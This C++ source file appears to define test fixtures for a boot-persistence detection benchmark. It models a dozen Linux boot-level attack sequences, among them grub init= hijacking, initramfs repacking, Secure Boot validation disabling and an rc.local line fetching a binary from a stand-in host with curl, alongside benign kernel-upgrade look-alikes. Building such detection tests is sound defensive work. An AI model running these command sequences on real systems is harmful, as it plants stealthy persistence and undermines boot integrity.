// SPDX-License-Identifier: Apache-2.0
#include "incidents.h"

#include <array>

namespace vedette::bench {
namespace {

using enum StepKind;

constexpr std::string_view kVi = "/usr/bin/vi";
constexpr std::string_view kCp = "/usr/bin/cp";
constexpr std::string_view kMv = "/usr/bin/mv";
constexpr std::string_view kCpio = "/usr/bin/cpio";
constexpr std::string_view kChmod = "/usr/bin/chmod";
constexpr std::string_view kSystemctl = "/usr/bin/systemctl";
constexpr std::string_view kTee = "/usr/bin/tee";

constexpr IncidentStep Exec(std::string_view executable, std::string_view line,
                            bool bundled = false, std::string_view parent = {}) {
  return {kExec, executable, line, {}, parent, bundled};
}
constexpr IncidentStep File(StepKind kind, std::string_view executable, std::string_view line,
                            std::string_view path, std::string_view parent = {}) {
  return {kind, executable, line, path, parent, false};
}

constexpr std::array kGrubConfiguration = {
    Exec("/usr/bin/sed", "sed -i s/quiet/init=\\/tmp\\/.{tag}/ /etc/default/grub"),
    File(kRename, "/usr/bin/sed", "sed -i s/quiet/init=\\/tmp\\/.{tag}/ /etc/default/grub",
         "/etc/default/grub"),
    Exec("/usr/sbin/grub-mkconfig", "grub-mkconfig -o /boot/grub/grub.cfg"),
    File(kModify, "/usr/sbin/grub-mkconfig", "grub-mkconfig -o /boot/grub/grub.cfg",
         "/boot/grub/grub.cfg"),
    Exec("/usr/sbin/reboot", "reboot"),
};
constexpr std::array kInitramfsRepack = {
    Exec(kCp, "cp -p /boot/initrd.img-6.1.0-37-amd64 /var/tmp/.{tag}", true),
    Exec("/usr/bin/unmkinitramfs", "unmkinitramfs /var/tmp/.{tag} /var/tmp/.{tag}.d"),
    File(kModify, "/usr/bin/dash", "sh -c cat~>>~/var/tmp/.{tag}.d/main/init",
         "/var/tmp/.{tag}.d/main/init"),
    Exec(kCpio, "cpio -o -H newc --quiet -O /var/tmp/{tag}.img", true),
    Exec("/usr/bin/gzip", "gzip -9 /var/tmp/{tag}.img"),
    Exec(kMv, "mv -f /var/tmp/{tag}.img.gz /boot/initrd.img-6.1.0-37-amd64", true),
    File(kRename, kMv, "mv -f /var/tmp/{tag}.img.gz /boot/initrd.img-6.1.0-37-amd64",
         "/boot/initrd.img-6.1.0-37-amd64"),
};
constexpr std::array kInitramfsHook = {
    File(kCreate, kTee, "tee /etc/initramfs-tools/hooks/zz-{tag}",
         "/etc/initramfs-tools/hooks/zz-{tag}"),
    Exec(kChmod, "chmod +x /etc/initramfs-tools/hooks/zz-{tag}"),
    Exec("/usr/sbin/update-initramfs", "update-initramfs -u -k all"),
};
constexpr std::array kDracutModule = {
    Exec("/usr/bin/mkdir", "mkdir -p /usr/lib/dracut/modules.d/99{tag}"),
    File(kCreate, kTee, "tee /usr/lib/dracut/modules.d/99{tag}/module-setup.sh",
         "/usr/lib/dracut/modules.d/99{tag}/module-setup.sh"),
    Exec("/usr/bin/dracut", "dracut --force --add {tag}"),
};
constexpr std::array kSystemdGenerator = {
    File(kCreate, kCp, "cp /tmp/{tag} /etc/systemd/system-generators/{tag}",
         "/etc/systemd/system-generators/{tag}"),
    Exec(kChmod, "chmod 755 /etc/systemd/system-generators/{tag}"),
    Exec(kSystemctl, "systemctl daemon-reload"),
};
constexpr std::array kKernelModule = {
    Exec("/usr/bin/make", "make -C /lib/modules/6.1.0-37-amd64/build M=/tmp/{tag} modules"),
    File(kCreate, kCp, "cp /tmp/{tag}/{tag}.ko /lib/modules/6.1.0-37-amd64/extra/{tag}.ko",
         "/lib/modules/6.1.0-37-amd64/extra/{tag}.ko"),
    Exec("/usr/sbin/insmod", "insmod /tmp/{tag}/{tag}.ko"),
    File(kCreate, kTee, "tee /etc/modules-load.d/{tag}.conf", "/etc/modules-load.d/{tag}.conf"),
    Exec("/usr/sbin/depmod", "depmod -a"),
};
constexpr std::array kEspBootloader = {
    Exec("/usr/bin/mount", "mount /dev/vda1 /boot/efi"),
    Exec(kCp, "cp /tmp/{tag}.efi /boot/efi/EFI/debian/grubx64.efi", true),
    File(kModify, kCp, "cp /tmp/{tag}.efi /boot/efi/EFI/debian/grubx64.efi",
         "/boot/efi/EFI/debian/grubx64.efi"),
    Exec("/usr/bin/efibootmgr", "efibootmgr --create --disk /dev/vda --label {tag}"),
};
constexpr std::array kSecureBoot = {
    Exec("/usr/bin/openssl", "openssl req -new -x509 -newkey rsa:2048 -keyout /root/.{tag}.key"),
    Exec("/usr/bin/mokutil", "mokutil --import /root/.{tag}.der"),
    Exec("/usr/bin/mokutil", "mokutil --disable-validation"),
};
constexpr std::array kKexec = {
    Exec("/usr/sbin/kexec", "kexec -l /boot/vmlinuz-6.1.0-37-amd64 --initrd=/tmp/{tag}"),
    Exec("/usr/sbin/kexec", "kexec -e"),
};
constexpr std::array kUdevRule = {
    File(kCreate, kVi, "vi /etc/udev/rules.d/99-{tag}.rules", "/etc/udev/rules.d/99-{tag}.rules"),
    Exec("/usr/bin/udevadm", "udevadm control --reload"),
    Exec("/usr/bin/dash", "/bin/sh -c /var/tmp/.{tag}", false, "/usr/bin/udevadm"),
};
constexpr std::array kRcLocal = {
    File(kCreate, kTee, "tee -a /etc/rc.local", "/etc/rc.local"),
    Exec(kChmod, "chmod +x /etc/rc.local"),
    Exec(kSystemctl, "systemctl enable rc-local"),
    Exec("/usr/bin/curl", "curl -s http://198.51.100.23/{tag} -o /usr/local/sbin/{tag}", false,
         "/etc/rc.local"),
};
constexpr std::array kBootDirectoryExecution = {
    Exec(kCp, "cp /tmp/{tag} /boot/.{tag}", true),
    File(kCreate, kCp, "cp /tmp/{tag} /boot/.{tag}", "/boot/.{tag}"),
    Exec("/boot/.{tag}", "/boot/.{tag} -d"),
    File(kConnect, "/boot/.{tag}", "/boot/.{tag} -d", {}),
};

constexpr std::string_view kPostinst = "/var/lib/dpkg/info/linux-image-6.1.0-37-amd64.postinst";
constexpr std::array kDpkgUpgrade = {
    Exec("/usr/bin/dpkg", "dpkg --configure linux-image-6.1.0-37-amd64", false, "/usr/bin/apt-get"),
    File(kCreate, "/usr/bin/dpkg", "dpkg --unpack linux-image", "/boot/vmlinuz-6.1.0-37-amd64"),
    Exec(kCp, "cp -a /boot/config-6.1.0-36 /boot/config-6.1.0-36.old", false, kPostinst),
    Exec(kCpio, "cpio -o -H newc --reproducible --quiet", false, "/usr/sbin/mkinitramfs"),
    Exec(kMv, "mv /boot/grub/grub.cfg.new /boot/grub/grub.cfg", false, "/usr/sbin/grub-mkconfig"),
    File(kRename, kMv, "mv /boot/grub/grub.cfg.new /boot/grub/grub.cfg", "/boot/grub/grub.cfg"),
};
constexpr std::array kRpmUpgrade = {
    Exec("/usr/bin/rpm", "rpm -U kernel-core-5.14.0-570.el9.x86_64.rpm", false, "/usr/bin/dnf"),
    Exec(kCp, "cp /lib/modules/5.14.0-570/vmlinuz /boot/vmlinuz-5.14.0-570", false,
         "/usr/lib/kernel/install.d/20-grub.install"),
    Exec(kCpio, "cpio -o -H newc -R 0:0", false, "/usr/bin/dracut"),
    Exec(kMv, "mv /boot/initramfs.tmp /boot/initramfs-5.14.0-570.img", false, "/usr/bin/dracut"),
    File(kRename, kMv, "mv /boot/initramfs.tmp /boot/initramfs-5.14.0-570.img",
         "/boot/initramfs-5.14.0-570.img"),
};
constexpr std::array kAdminChange = {
    Exec("/usr/bin/sudo", "sudo cp /boot/grub/grub.cfg /boot/grub/grub.cfg.{tag}"),
    Exec(kCp, "cp /boot/grub/grub.cfg /boot/grub/grub.cfg.{tag}", false, "/usr/bin/sudo"),
    File(kModify, kVi, "vi /etc/default/grub", "/etc/default/grub"),
    Exec("/usr/sbin/update-grub", "update-grub", false, "/usr/bin/sudo"),
};

constexpr std::array kBootAttacks = std::to_array<IncidentKind>({
    {"grub_configuration", false, kGrubConfiguration},
    {"initramfs_repack", false, kInitramfsRepack},
    {"initramfs_hook", false, kInitramfsHook},
    {"dracut_module", false, kDracutModule},
    {"systemd_generator", false, kSystemdGenerator},
    {"kernel_module", false, kKernelModule},
    {"esp_bootloader", false, kEspBootloader},
    {"mok_secure_boot", false, kSecureBoot},
    {"kexec", false, kKexec},
    {"udev_rule", false, kUdevRule},
    {"rc_local", false, kRcLocal},
    {"boot_directory_execution", false, kBootDirectoryExecution},
});
constexpr std::array kLookAlikes = std::to_array<IncidentKind>({
    {"kernel_upgrade_dpkg", true, kDpkgUpgrade},
    {"kernel_upgrade_rpm", true, kRpmUpgrade},
    {"admin_change", true, kAdminChange},
});

}  // namespace

std::span<const IncidentKind> BootAttacks() { return kBootAttacks; }
std::span<const IncidentKind> LookAlikes() { return kLookAlikes; }

}  // namespace vedette::bench
